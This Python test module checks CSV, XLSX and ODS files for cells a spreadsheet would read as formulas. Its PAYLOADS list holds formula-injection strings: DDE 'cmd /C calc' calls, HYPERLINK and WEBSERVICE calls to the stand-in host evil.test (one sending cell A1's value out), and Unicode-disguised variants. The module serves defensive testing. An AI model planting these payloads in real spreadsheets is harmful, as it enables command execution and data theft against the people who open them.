"""Promise 9 on the bytes of a CSV, XLSX or ODS file: which cells a spreadsheet would take for formulas.

`check` takes files by name and gives a Tally. The reading here is our own or other people's, never the code
that wrote the files.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import unicodedata
import zipfile
from collections.abc import Mapping
from pathlib import Path
from tempfile import TemporaryDirectory

import openpyxl
from lxml import etree

from tests.promises.tally import Tally, tally

_CALLS = (
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("http://evil.test/?x="&A1,"Open")',
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    'WEBSERVICE("http://evil.test")',
)
_SIGNS = ("=", "+", "-", "@")
_LEADS = ("", " ", "\u00a0", "\t", "\r", "\n")
PAYLOADS: tuple[str, ...] = (
    *(f"{sign}{call}" for sign in _SIGNS for call in _CALLS),
    *(f"{lead}{sign}1+1" for lead in _LEADS[1:] for sign in _SIGNS),
    *(f"{sign}cmd|' /C calc'!A0" for sign in ("\uff1d", "\uff0b", "\uff0d", "\uff20")),
    "first line\n=1+1",
    "first line\r\n=cmd|' /C calc'!A0",
    "words,=1+1",
    'words",=1+1,"',
    "words;=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202f\u2003=1+1",
    "\x00=1+1",
    "\u00ad@SUM(1)",
    "=-1",
    "--1+1",
)
OFFICE = "urn:oasis:names:tc:opendocument:xmlns:"
_NUMBER = re.compile(r"-|[+-]?\u00a3?[\d,]+(\.\d+)?%?")


def check(files: Mapping[str, bytes]) -> Tally:
    """Every check on every file; the ending of its name says which kind it is."""
    checks = {"csv": csv_formulas, "xlsx": xlsx_formulas, "ods": ods_formulas}
    return tally(
        "promise 9, CSV, XLSX and ODS",
        {name: checks[name.rpartition(".")[2]](content) for name, content in files.items()},
    )


def starts_formula(text: str) -> bool:
    """Whether the first sign that shows is one that a formula starts with; a number by itself is none."""
    shown = text.lstrip("".join({each for each in text if unicodedata.category(each)[0] in "ZC"}))
    first = unicodedata.normalize("NFKC", shown[:1])
    return first in _SIGNS and first != "" and _NUMBER.fullmatch(text) is None


def csv_formulas(content: bytes) -> list[str]:
    """Fields that start as formulas, read with any of the separators that a spreadsheet may choose."""
    text = content.decode("utf-8")
    found = []
    for row in csv.reader(io.StringIO(text, newline="")):
        found += [field for field in row if starts_formula(field)]
        found += [field for field in row for line in field.splitlines()[1:] if starts_formula(line)]
    return [f"the field {field!r} starts a formula" for field in found]


def xlsx_formulas(content: bytes) -> list[str]:
    """Formula cells by openpyxl and by the file's own XML, and links that lead out of the workbook."""
    found = []
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            found += [f"{sheet.title}!{cell.coordinate} holds {cell.value!r}" for cell in row if cell.data_type == "f"]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            root = etree.fromstring(archive.read(name))
            for element in root.iter("{*}f", "{*}calculatedColumnFormula", "{*}definedName", "{*}ddeLink"):
                if not str(element.text).endswith(("$4:$4", "$4")):  # the rows repeated on each printed page
                    found.append(f"{name} holds {etree.QName(element).localname} {element.text!r}")
            found += [
                f"{name} leads outside to {relation.get('Target')!r}"
                for relation in root.iter("{*}Relationship")
                if relation.get("TargetMode") == "External"
            ]
    return found


def ods_formulas(content: bytes) -> list[str]:
    """Cells with a formula, links that lead out of the workbook, and anything that fetches or runs."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        root = etree.fromstring(archive.read("content.xml"))
    formula, href = f"{{{OFFICE}table:1.0}}formula", "{http://www.w3.org/1999/xlink}href"
    for element in root.iter():
        if formula in element.attrib:
            found.append(f"a cell holds the formula {element.get(formula)!r}")
        if not str(element.get(href, "#")).startswith("#"):
            found.append(f"a link leads to {element.get(href)!r}")
        if etree.QName(element).localname in ("dde-link", "cell-range-source", "event-listener", "script"):
            found.append(f"it holds {etree.QName(element).localname}")
    return found


def why_no_office() -> str | None:
    """Why LibreOffice cannot read the files here, or None."""
    return None if shutil.which("soffice") else "LibreOffice (soffice) is not installed"


def read_by_office(files: Mapping[str, bytes]) -> dict[str, bytes]:
    """Each file as LibreOffice saves it again, as ODS, under the same name; formulas it saw are formulas there.

    Of a CSV file it is asked to calculate formulas, as a person who opens it might.
    """
    with TemporaryDirectory() as folder:
        here = Path(folder)
        for name, content in files.items():
            (here / name).write_bytes(content)
        for kind in ("csv", "xlsx", "ods"):
            given = sorted(here.glob(f"*.{kind}"))
            if given:
                _convert(here, kind, given)
        return {name: (here / f"made-{name.rpartition('.')[2]}" / _as_ods(name)).read_bytes() for name in files}


def _as_ods(name: str) -> str:
    return name.rpartition(".")[0] + ".ods"


def _convert(here: Path, kind: str, given: list[Path]) -> None:
    command = ["soffice", "--headless", f"-env:UserInstallation={(here / 'profile').as_uri()}"]
    if kind == "csv":
        # Comma, quote, UTF-8, from line 1, no column formats, English, ..., and "evaluate formulas" at the end.
        command.append("--infilter=Text - txt - csv (StarCalc):44,34,76,1,,2057,false,true,false,false,false,0,true")
    command += ["--convert-to", "ods", "--outdir", str(here / f"made-{kind}"), *map(str, given)]
    subprocess.run(command, check=True, capture_output=True, timeout=300)
